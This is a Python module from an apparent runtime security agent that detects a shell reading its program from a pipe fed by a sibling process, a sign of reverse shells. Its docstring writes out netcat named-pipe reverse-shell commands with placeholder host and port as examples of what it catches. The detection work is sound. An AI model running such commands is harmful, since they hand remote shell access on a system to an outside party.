# SPDX-License-Identifier: Apache-2.0
"""Pairs a command interpreter reading its stdin with the process feeding it (RG-0014, RG-0015).

``a | sh`` and ``nc H P < /tmp/f | sh > /tmp/f``: the shell (ash, bash) forks every stage of a
pipeline from itself, so the interpreter and its feeder are siblings exec'd within
milliseconds. A pair is *proven* when both processes' stdio targets are known and the
feeder's stdout is the interpreter's stdin (or, the other way round, the interpreter's stdout
is the feeder's stdin: ``sh -i < /tmp/f | nc H P > /tmp/f``); it is *inferred* when the source
could not read one side's stdio (a short-lived process is gone before /proc is read) and the
two are siblings exec'd within ``detectors.pipe_pair_seconds``. Known stdio that does not link
them, or a terminal on the interpreter's stdin, rules the pair out.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any

from agent.detectors.activity import RecentExec, activity
from agent.detectors.spec import DetectorState, derived, name_set
from agent.events import ProcessExec
from agent.settings.detectors import DetectorsSettings

# Options of shells and interpreters that take the next argument as their value (so it is not
# a script name), and those that name inline code or a module (so stdin is not the program).
_VALUE_OPTS = frozenset({"-o", "+o", "-O", "+O", "--rcfile", "--init-file", "-W", "-X", "-I", "-r", "--require"})
_INLINE_OPTS = frozenset({"-c", "-e", "-E", "-m", "--eval", "--command", "--print"})
_TERMINALS = ("/dev/pts/", "/dev/tty", "/dev/console")
_VERSION = re.compile(r"[\d.]+$")
_VERSION_END = frozenset("0123456789.")


def reads_stdin(args: tuple[str, ...] | list[str]) -> bool:
    """Whether a shell or interpreter started with ``args`` (after its name) takes its program
    from stdin: no script operand and no inline-code option (``-c``, ``-e``, ``-m``)."""
    skip = False
    for a in args:
        if skip:
            skip = False
            continue
        if a in ("-s", "-", "--"):
            return True
        if a in _INLINE_OPTS:
            return False
        if a in _VALUE_OPTS:
            skip = True
            continue
        if a.startswith("--"):
            continue
        if a.startswith(("-", "+")) and len(a) > 1:
            letters = a[1:]
            if "c" in letters and a[0] == "-":  # -ic, -xc: inline command
                return False
            if "s" in letters:
                return True
            continue
        return False  # a script operand
    return True


# The last answer of is_reader: (record, settings, answer); RG-0014 and RG-0015 ask in a row.
_last_reader: tuple[object, object, bool] = (None, None, False)


def is_reader(rec: RecentExec, state: DetectorState) -> bool:
    """``rec`` is a shell (or a script interpreter) that reads its program from stdin."""
    global _last_reader
    s = state.settings
    last = _last_reader
    if last[0] is rec and last[1] is s:
        return last[2]
    known = derived(s, "pipe_readers", _reader_names)
    prog = rec.program
    # python3.11, perl5.36: a trailing version is not part of the name
    named = prog in known or (prog[-1:] in _VERSION_END and _VERSION.sub("", prog) in known)
    answer = named and reads_stdin(rec.args)
    _last_reader = (rec, s, answer)
    return answer


def reader_siblings(rec: RecentExec, state: DetectorState) -> list[RecentExec]:
    """The siblings of ``rec`` exec'd within ``detectors.pipe_pair_seconds`` that are readers
    (each sibling tested once, the readers kept apart: ``Activity.reader_siblings``)."""
    return activity(state).reader_siblings(rec, state.settings.pipe_pair_seconds, lambda r: is_reader(r, state))


def _reader_names(s: DetectorsSettings) -> frozenset[str]:
    return name_set(s.shells) | name_set(s.interpreters)


def interpreter_names(state: DetectorState) -> tuple[str, ...]:
    """Script interpreters that count as readers (``detectors.interpreters``, role interpreter)."""
    return state.settings.interpreters


def _is_terminal(target: str) -> bool:
    return target.startswith(_TERMINALS)


def link(reader: RecentExec, feeder: RecentExec, both_ways: bool, inherited: tuple[str, ...] = ()) -> str | None:
    """How ``feeder`` reaches ``reader``'s stdin: ``"pipe:[N]"``/path (proven), ``""`` (stdio
    unknown: inferred from the pipeline shape) or ``None`` (known stdio shows no link).
    ``inherited`` is the parent's stdio: a pipe the reader shares with its parent on the same
    fd came from above (a session's own stdin), not from a sibling."""
    r, f = reader.stdio, feeder.stdio
    if r and _is_terminal(r[0]):
        return None
    if len(r) >= 2 and len(f) < 2:
        # Only the reader's stdio is known: a feeder can only reach it through a pipe of its
        # own, on its stdin (or on its stdout when the feeder reads the reader's output).
        def own_pipe(fd: int) -> bool:
            return r[fd].startswith("pipe:[") and (len(inherited) <= fd or inherited[fd] != r[fd])

        return "" if own_pipe(0) or (both_ways and own_pipe(1)) else None
    if len(r) < 2 or len(f) < 2:
        return ""
    if r[0] and r[0] == f[1] and not _is_terminal(r[0]) and r[0] != "/dev/null":
        return r[0]
    if both_ways and r[1] and r[1] == f[0] and not _is_terminal(r[1]) and r[1] != "/dev/null":
        return r[1]
    return None


@dataclass(frozen=True, slots=True)
class Pair:
    reader: RecentExec
    feeder: RecentExec
    link: str  # "" when inferred

    @property
    def how(self) -> str:
        """How the two are linked, as a finding's summary says it."""
        return f"through {self.link}" if self.link else "in one pipeline (stdio not read)"

    def evidence(self, feeder_key: str) -> dict[str, Any]:
        """The shell, the feeder (under ``feeder_key``), the shell's parent pid and the link."""
        return {
            "shell": {"pid": self.reader.pid, "argv": list(self.reader.argv), "stdio": list(self.reader.stdio)},
            feeder_key: {"pid": self.feeder.pid, "argv": list(self.feeder.argv), "stdio": list(self.feeder.stdio)},
            "parent_pid": self.reader.ppid,
            "link": self.link or "inferred",
        }


def pairs_at_exec(
    ev: ProcessExec,
    state: DetectorState,
    rule: str,
    is_feeder: Callable[[RecentExec, DetectorState], bool],
    both_ways: bool = False,
) -> Sequence[Pair]:
    """The (reader, feeder) pairs that ``ev`` completes, each reported once per rule."""
    act = activity(state)
    rec = act.observe_exec(ev)
    window = state.settings.pipe_pair_seconds
    if not act.may_have_siblings(rec, window):
        return ()
    found: list[tuple[RecentExec, RecentExec]] = []
    if is_reader(rec, state):
        found += [(rec, sib) for sib in act.siblings(rec, window) if is_feeder(sib, state)]
    if is_feeder(rec, state):
        found += [(sib, rec) for sib in reader_siblings(rec, state)]
    return finish(state, rule, found, both_ways) if found else ()


def finish(
    state: DetectorState, rule: str, found: list[tuple[RecentExec, RecentExec]], both_ways: bool
) -> Sequence[Pair]:
    """Keep the linked pairs not reported before (marking them reported)."""
    if not found:
        return ()
    act = activity(state)
    out = []
    for reader, feeder in found:
        parent = state.lineage.get(reader.container, reader.ppid)
        how = link(reader, feeder, both_ways, parent.stdio if parent is not None else ())
        if how is None or not act.first_report(rule, reader.container, reader.pid, feeder.pid):
            continue
        out.append(Pair(reader, feeder, how))
    return out
